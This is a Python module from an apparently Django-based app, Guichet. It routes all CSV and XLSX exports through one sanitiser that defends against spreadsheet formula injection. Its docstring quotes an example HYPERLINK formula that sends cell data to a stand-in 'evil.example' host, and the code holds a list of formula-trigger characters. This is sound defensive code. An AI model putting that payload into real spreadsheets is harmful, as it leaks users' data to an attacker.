"""Every CSV and XLSX that Guichet writes, through one place that keeps member text inert.

Spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets run a cell whose
text starts with `=`, `+`, `-` or `@` (and, after a tab or a carriage return, what follows) as a formula, so a
member's `=HYPERLINK("https://evil.example/?"&A2, "click")` in a title would run on a staff member's machine.
- CSV: such text is prefixed with a single quote, OWASP's advice; the spreadsheet shows it as text.
- XLSX: every text is written as a string cell (`t="inlineStr"`, never `<f>`), and text that would look like a
  formula also gets the `quotePrefix` style, so re-editing the cell in Excel keeps it text. The value itself is
  unchanged, so exchange formats (directory-v1) read back exactly what was written.
Numbers (int, Decimal, float), dates and booleans stay native values: a negative amount is a number, not text.
A formula written on purpose by our own code (a statement's `=SUM(...)`) is a `Formula`.

Headers: a column is `(machine_name, label)`. Row 1 holds the labels in the user's language, row 2 the stable
machine names (the same in every language; programs key on row 2 and read data from row 3). A column given as a
plain string is a machine name only: one header row (exchange formats and import templates).
"""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.functional import Promise

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# OWASP CSV Injection: the characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SHEET_TITLE_FORBIDDEN = str.maketrans({c: " " for c in "[]:*?/\\"})


class Formula(str):
    """A formula our own code wrote (never member text): written to XLSX as a live formula."""


Column = str | tuple[str, str | Promise]


@dataclass
class Sheet:
    title: str | Promise
    columns: Sequence[Column]
    rows: Iterable[Sequence] = ()
    widths: dict[str, int] = field(default_factory=dict)  # machine name -> width in characters
    number_formats: dict[str, str] = field(default_factory=dict)  # machine name -> Excel number format


def is_formula_like(text: str) -> bool:
    # A lone "-" (a gap in a numbering table, "none" in a report) is text to every spreadsheet, not a formula.
    return text != "-" and text.startswith(FORMULA_TRIGGERS)


def _names_and_labels(columns: Sequence[Column]) -> tuple[list[str], list[str] | None]:
    names = [c if isinstance(c, str) else c[0] for c in columns]
    if all(isinstance(c, str) for c in columns):
        return names, None
    return names, [force_str(c if isinstance(c, str) else c[1]) for c in columns]


def _plain(value):
    """Translate lazy strings and put aware datetimes in Paris time (spreadsheets have no time zones)."""
    if isinstance(value, Promise):
        return force_str(value)
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def csv_cell(value) -> str:
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return str(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def csv_text(columns: Sequence[Column], rows: Iterable[Sequence]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    names, labels = _names_and_labels(columns)
    if labels is not None:
        writer.writerow([csv_cell(x) for x in labels])
    writer.writerow(names)
    for row in rows:
        writer.writerow([csv_cell(x) for x in row])
    return buffer.getvalue()


def csv_response(filename: str, columns: Sequence[Column], rows: Iterable[Sequence]) -> HttpResponse:
    response = HttpResponse(csv_text(columns, rows), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _write_cell(sheet, row: int, column: int, value, *, bold=False):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = _plain(value)
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, Formula):
        cell.value = str(value)
    elif isinstance(value, bool | int | float | Decimal | date) or value is None:
        cell.value = value
    else:
        # Control characters cannot be stored in XLSX (openpyxl would raise): they are dropped, not a 500.
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell.value = text
        cell.data_type = "s"  # set after the value: openpyxl would otherwise have typed "=..." as a formula
        if is_formula_like(text):
            cell.quotePrefix = True
    if bold:
        from openpyxl.styles import Font

        cell.font = Font(bold=True)
    return cell


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    workbook.remove(workbook.active)
    for spec in sheets:
        sheet = workbook.create_sheet(force_str(spec.title).translate(SHEET_TITLE_FORBIDDEN)[:31])
        names, labels = _names_and_labels(spec.columns)
        header_rows = [labels, names] if labels is not None else [names]
        for r, header in enumerate(header_rows, start=1):
            for c, text in enumerate(header, start=1):
                cell = _write_cell(sheet, r, c, text, bold=r == 1)
                if r == 2:
                    cell.font = Font(italic=True, color="666666")
        first_data_row = len(header_rows) + 1
        for r, row in enumerate(spec.rows, start=first_data_row):
            for c, value in enumerate(row, start=1):
                cell = _write_cell(sheet, r, c, value)
                number_format = spec.number_formats.get(names[c - 1]) if c <= len(names) else None
                if number_format and isinstance(cell.value, int | float | Decimal) and not isinstance(
                        cell.value, bool):
                    cell.number_format = number_format
        sheet.freeze_panes = sheet.cell(row=first_data_row, column=1)
        for c, name in enumerate(names, start=1):
            if name in spec.widths:
                sheet.column_dimensions[sheet.cell(1, c).column_letter].width = spec.widths[name]
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, sheets: Sequence[Sheet]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- streamed CSV (antibody batches, issue 14) ---
def csv_stream_response(filename: str, columns: Sequence[Column], rows: Iterable[Sequence]):
    """The same CSV as csv_response, written row by row as the client reads it (a batch of 10,000 antibodies is
    never held in memory); rows are produced in the request's language, whenever the server iterates them."""
    from django.http import StreamingHttpResponse
    from django.utils import translation

    language = translation.get_language()

    class Echo:
        def write(self, value):
            return value

    def lines():
        with translation.override(language):
            writer = csv.writer(Echo())
            names, labels = _names_and_labels(columns)
            if labels is not None:
                yield writer.writerow([csv_cell(x) for x in labels])
            yield writer.writerow(names)
            for row in rows:
                yield writer.writerow([csv_cell(x) for x in row])

    response = StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
